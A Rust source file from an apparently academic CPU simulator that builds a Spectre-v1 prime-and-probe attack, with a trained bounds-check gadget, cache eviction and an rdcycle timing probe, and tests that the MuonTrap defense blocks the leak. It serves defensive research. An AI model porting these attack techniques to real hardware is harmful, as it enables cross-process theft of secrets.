//! The end-to-end Spectre prime-and-probe attack (Attack 1 of the paper).
//!
//! Two processes share one physical page (the probe array, standing in for a
//! shared library). The *victim* runs a classic Spectre-v1 gadget:
//!
//! ```text
//! if (idx < size) {            // bounds check, trained to predict in-bounds
//!     s = secret_array[idx];   // speculative out-of-bounds read of a secret
//!     t = probe[s * 64];       // secret-dependent load: the transmitter
//! }
//! ```
//!
//! The branch's condition depends on a deliberately cold load of `size`, so
//! the two dependent loads execute far down the wrong path before the squash.
//! The victim then halts; the OS schedules the *attacker* process on the same
//! core (a protection-domain switch), and the attacker times a load of every
//! probe line with `rdcycle`, writing the index of the fastest line to a known
//! location. If the wrong-path transmitter load left the probe line in the
//! non-speculative cache hierarchy, the attacker recovers the secret; under
//! MuonTrap the line only ever lived in the victim's filter cache, which was
//! flushed on the context switch, and the attacker learns nothing.

use simkit::addr::VirtAddr;
use simkit::config::SystemConfig;

use defenses::DefenseKind;
use simsys::System;
use uarch_isa::inst::MemWidth;
use uarch_isa::prog::{Program, ProgramBuilder};
use uarch_isa::reg::Reg;

use crate::AttackOutcome;

/// Number of distinct probe lines (and therefore representable secret values).
pub const PROBE_LINES: u64 = 16;

/// Virtual address of the shared probe array (page-aligned) in both processes.
const PROBE_VA: u64 = 0x0020_0000;

/// Physical page number backing the shared probe array.
const PROBE_SHARED_PPN: u64 = 0x9_0000;

/// Victim-private addresses.
const VICTIM_ARRAY_VA: u64 = 0x0030_0000; // the in-bounds array
const VICTIM_SIZE_VA: u64 = 0x0034_0000; // bounds variable, kept cold
const VICTIM_SECRET_VA: u64 = 0x0030_0800; // the secret byte, out of bounds of the array

/// Attacker-private addresses.
const ATTACKER_RESULT_VA: u64 = 0x0040_0000; // where the attacker writes its guess
const ATTACKER_LAT_BASE_VA: u64 = 0x0040_1000; // per-line latencies, for diagnostics

/// Result of one full prime-and-probe run.
#[derive(Debug, Clone, PartialEq)]
pub struct SpectreOutcome {
    /// The secret value planted in the victim.
    pub secret: u64,
    /// The value the attacker recovered.
    pub recovered: u64,
    /// Measured latency of each probe line, in cycles.
    pub probe_latencies: Vec<u64>,
    /// Whether the recovered value matches the secret *and* the timing signal
    /// was unambiguous (the recovered line is clearly faster than the rest).
    pub leaked: bool,
}

/// Builds the victim program: train the bounds check, warm the secret, then
/// perform one malicious (out-of-bounds) invocation of the gadget.
///
/// Public so static tooling (`speclint`) can analyze the very program the
/// dynamic attack executes: the gadget body here is the ground-truth
/// `v1-load` the cross-validation tests pin.
pub fn victim_program(secret: u64, training_rounds: u64) -> Program {
    assert!(secret < PROBE_LINES, "secret must index a probe line");
    let mut b = ProgramBuilder::new("spectre-victim");
    // In-bounds array: 16 elements, one byte each (values irrelevant).
    b.data(VirtAddr::new(VICTIM_ARRAY_VA), vec![1u8; 16]);
    // The array bound. Placed far from everything else so the load of it
    // misses and the bounds-check branch resolves late.
    b.data_u64(VirtAddr::new(VICTIM_SIZE_VA), &[16]);
    // The secret byte, outside the array but at a fixed offset from it.
    b.data(VirtAddr::new(VICTIM_SECRET_VA), vec![secret as u8]);

    let gadget = b.new_label();
    let done_training = b.new_label();

    // x15 = loop counter, x16 = index argument for the gadget.
    b.li(Reg::X15, 0);
    // Warm the secret line so the transmitter issues quickly on the wrong path
    // (the victim legitimately uses its secret).
    b.li(Reg::X20, VICTIM_SECRET_VA);
    b.load_byte(Reg::X21, Reg::X20, 0);

    // Training loop: call the gadget with an in-bounds index.
    let train_top = b.here();
    b.andi(Reg::X16, Reg::X15, 7); // idx in 0..8: always in bounds
    b.call(gadget, Reg::X30);
    b.addi(Reg::X15, Reg::X15, 1);
    b.blt_imm(Reg::X15, training_rounds, train_top);
    b.jump(done_training);

    // ---- the gadget --------------------------------------------------
    // x16 = idx. Loads size (cold), bounds-checks, then on the in-bounds path
    // loads array[idx] and probe[array[idx] * 64].
    b.bind_label(gadget);
    let out_of_bounds = b.new_label();
    b.li(Reg::X1, VICTIM_SIZE_VA);
    b.load(Reg::X2, Reg::X1, 0); // size (cold on the malicious call)
    b.bgeu(Reg::X16, Reg::X2, out_of_bounds);
    // In-bounds (and wrong-path on the malicious call):
    b.li(Reg::X3, VICTIM_ARRAY_VA);
    b.add(Reg::X3, Reg::X3, Reg::X16);
    b.load_byte(Reg::X4, Reg::X3, 0); // array[idx] — the secret on the malicious call
    b.shli(Reg::X4, Reg::X4, 6); // * 64 (one cache line per value)
    b.li(Reg::X5, PROBE_VA);
    b.add(Reg::X5, Reg::X5, Reg::X4);
    b.load_byte(Reg::X6, Reg::X5, 0); // the transmitter
    b.bind_label(out_of_bounds);
    b.ret(Reg::X30);
    // -------------------------------------------------------------------

    b.bind_label(done_training);
    // Evict the size variable's line from the L1 by streaming a large dummy
    // region over it, so the malicious call's bounds check resolves slowly and
    // the speculation window is wide. (A real attacker arranges the same
    // thing; here the victim's ordinary working set does it for us.)
    b.li(Reg::X22, VICTIM_ARRAY_VA + 0x8000);
    b.li(Reg::X23, 0);
    let evict_top = b.here();
    b.shli(Reg::X24, Reg::X23, 6);
    b.add(Reg::X24, Reg::X22, Reg::X24);
    b.load(Reg::X25, Reg::X24, 0);
    b.addi(Reg::X23, Reg::X23, 1);
    b.blt_imm(Reg::X23, 2048, evict_top);

    // Re-warm the secret and the in-bounds array base (the victim legitimately
    // uses both), so the wrong-path transmitter can issue inside the window
    // opened by the slow bounds load.
    b.li(Reg::X20, VICTIM_SECRET_VA);
    b.load_byte(Reg::X21, Reg::X20, 0);

    // The malicious call: idx chosen so that array + idx == secret address.
    b.li(Reg::X16, VICTIM_SECRET_VA - VICTIM_ARRAY_VA);
    b.call(gadget, Reg::X30);
    b.halt();
    b.build().expect("victim program builds")
}

/// Builds the attacker program: time a load of each candidate probe line and
/// record the index of the fastest.
///
/// Two standard attacker tricks are used so the cache signal is clean:
/// the probe lines are visited in a permuted (non-unit-stride) order so the
/// attacker's own accesses do not train the stride prefetcher, and the probed
/// address is made data-dependent on the first `rdcycle` so the load cannot
/// issue before the timestamp is taken. Lines 0 and 1 are excluded because the
/// attacker itself chose the in-bounds training inputs that touch them.
///
/// Public so static tooling can confirm the attacker side carries no gadget:
/// every address it accesses derives from immediates and `rdcycle`, never
/// from a speculatively loaded value.
pub fn attacker_program() -> Program {
    let mut b = ProgramBuilder::new("spectre-attacker");
    b.data_u64(VirtAddr::new(ATTACKER_RESULT_VA), &[u64::MAX]);

    // Warm the data TLB entry and the DRAM row for the probe page by touching
    // a line in the same page that is outside the 16 candidate lines.
    b.li(Reg::X5, PROBE_VA + PROBE_LINES * 64);
    b.load(Reg::X6, Reg::X5, 0);

    // x1 = loop counter, x2 = best latency so far, x3 = best index so far.
    b.li(Reg::X1, 0);
    b.li(Reg::X2, u64::MAX);
    b.li(Reg::X3, 0);
    let loop_top = b.here();
    // Visit lines 2..=15 in the order 2 + (k*5 mod 14): 5 is coprime with 14,
    // so every candidate line is probed exactly once, never at unit stride.
    b.li(Reg::X14, 5);
    b.mul(Reg::X15, Reg::X1, Reg::X14);
    b.remi(Reg::X15, Reg::X15, 14);
    b.addi(Reg::X15, Reg::X15, 2); // x15 = probe line index
                                   // addr = PROBE_VA + line * 64
    b.shli(Reg::X4, Reg::X15, 6);
    b.li(Reg::X5, PROBE_VA);
    b.add(Reg::X4, Reg::X5, Reg::X4);
    // t0 = rdcycle; make the probed address depend on t0 (adding zero) so the
    // load cannot hoist above the timestamp; load; t1 = rdcycle.
    b.rdcycle(Reg::X6);
    b.shri(Reg::X13, Reg::X6, 62); // always zero for realistic cycle counts
    b.add(Reg::X4, Reg::X4, Reg::X13);
    b.load_byte(Reg::X7, Reg::X4, 0);
    // Make the second timestamp depend on the loaded value having arrived.
    b.add(Reg::X8, Reg::X7, Reg::X0);
    b.rdcycle(Reg::X9);
    b.sub(Reg::X10, Reg::X9, Reg::X6);
    // Record the latency for diagnostics: lat[line] at ATTACKER_LAT_BASE_VA.
    b.shli(Reg::X11, Reg::X15, 3);
    b.li(Reg::X12, ATTACKER_LAT_BASE_VA);
    b.add(Reg::X12, Reg::X12, Reg::X11);
    b.store(Reg::X10, Reg::X12, 0);
    // best = min(best, lat)
    let not_better = b.new_label();
    b.bgeu(Reg::X10, Reg::X2, not_better);
    b.add(Reg::X2, Reg::X10, Reg::X0);
    b.add(Reg::X3, Reg::X15, Reg::X0);
    b.bind_label(not_better);
    b.addi(Reg::X1, Reg::X1, 1);
    b.blt_imm(Reg::X1, PROBE_LINES - 2, loop_top);
    // Publish the guess.
    b.li(Reg::X13, ATTACKER_RESULT_VA);
    b.store(Reg::X3, Reg::X13, 0);
    b.halt();
    b.build().expect("attacker program builds")
}

/// Runs the full prime-and-probe attack against `kind` with a given planted
/// secret, on a single-core machine so the attacker reuses the victim's core.
pub fn spectre_prime_probe_with_secret(
    kind: DefenseKind,
    config: &SystemConfig,
    secret: u64,
) -> SpectreOutcome {
    let mut cfg = config.clone();
    cfg.cores = 1;
    // A long quantum so the victim finishes before any preemption: the
    // interesting domain switch is the natural one when the victim halts and
    // the attacker is scheduled.
    cfg.scheduler_quantum = 10_000_000;

    let memory_model = kind.build(&cfg);
    let mut system = System::new(&cfg, memory_model);

    let victim_pid = system.add_process();
    let attacker_pid = system.add_process();
    // Share the probe page(s) between the two processes.
    let probe_vpn = PROBE_VA / cfg.tlb.page_bytes;
    system.map_shared_page(&[victim_pid, attacker_pid], probe_vpn, PROBE_SHARED_PPN);

    system.add_thread(victim_pid, victim_program(secret, 24));
    system.add_thread(attacker_pid, attacker_program());

    let report = system.run(20_000_000);
    assert!(report.completed, "attack scenario did not finish");

    let attacker_memory = system
        .process_memory(attacker_pid)
        .expect("attacker has memory");
    let memory = attacker_memory.borrow();
    let recovered = memory.read(VirtAddr::new(ATTACKER_RESULT_VA), MemWidth::Double);
    let probe_latencies: Vec<u64> = (0..PROBE_LINES)
        .map(|i| {
            memory.read(
                VirtAddr::new(ATTACKER_LAT_BASE_VA + i * 8),
                MemWidth::Double,
            )
        })
        .collect();
    drop(memory);

    // The leak is judged on the timing signal itself: the recovered line must
    // match the secret and be decisively faster than the median probed line.
    // Lines 0 and 1 are excluded: the attacker's own training inputs touch
    // them, so it never probes them (see `attacker_program`).
    let mut sorted: Vec<u64> = probe_latencies[2..].to_vec();
    sorted.sort_unstable();
    let median = sorted[sorted.len() / 2];
    let best = probe_latencies
        .get(recovered as usize)
        .copied()
        .unwrap_or(u64::MAX);
    let decisive = best + 20 < median;
    SpectreOutcome {
        secret,
        recovered,
        probe_latencies,
        leaked: recovered == secret && decisive,
    }
}

/// Runs the attack for several distinct secrets and reports whether the
/// attacker reliably recovered them.
pub fn spectre_prime_probe(kind: DefenseKind, config: &SystemConfig) -> AttackOutcome {
    let secrets = [3u64, 11, 6, 14];
    let outcomes: Vec<SpectreOutcome> = secrets
        .iter()
        .map(|s| spectre_prime_probe_with_secret(kind, config, *s))
        .collect();
    let leaks = outcomes.iter().filter(|o| o.leaked).count();
    let leaked = leaks >= 3; // reliable extraction, not a lucky guess
    let detail = outcomes
        .iter()
        .map(|o| {
            format!(
                "secret {} -> recovered {} (leaked: {})",
                o.secret, o.recovered, o.leaked
            )
        })
        .collect::<Vec<_>>()
        .join("; ");
    AttackOutcome::new(
        "attack 1: spectre prime+probe",
        kind.label(),
        leaked,
        detail,
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn config() -> SystemConfig {
        SystemConfig::paper_default()
    }

    #[test]
    fn victim_and_attacker_programs_build() {
        assert!(victim_program(5, 8).len() > 20);
        assert!(attacker_program().len() > 20);
    }

    #[test]
    fn unprotected_system_leaks_the_secret() {
        let outcome = spectre_prime_probe_with_secret(DefenseKind::Unprotected, &config(), 9);
        assert_eq!(
            outcome.recovered, 9,
            "unprotected system should leak; latencies: {:?}",
            outcome.probe_latencies
        );
        assert!(outcome.leaked);
    }

    #[test]
    fn muontrap_blocks_the_leak() {
        // With MuonTrap the speculative probe line never reaches the
        // non-speculative hierarchy and the filter cache is flushed on the
        // context switch to the attacker, so the timing signal is gone.
        let outcome = spectre_prime_probe_with_secret(DefenseKind::MuonTrap, &config(), 9);
        assert!(
            !outcome.leaked,
            "MuonTrap must not leak; recovered {} latencies {:?}",
            outcome.recovered, outcome.probe_latencies
        );
    }

    #[test]
    fn insecure_l0_still_leaks() {
        // The L0 alone (without MuonTrap's protections) provides no isolation:
        // speculative fills propagate to the L1/L2 as usual.
        let outcome = spectre_prime_probe_with_secret(DefenseKind::InsecureL0, &config(), 4);
        assert!(outcome.leaked, "an insecure L0 is not a defense");
    }
}
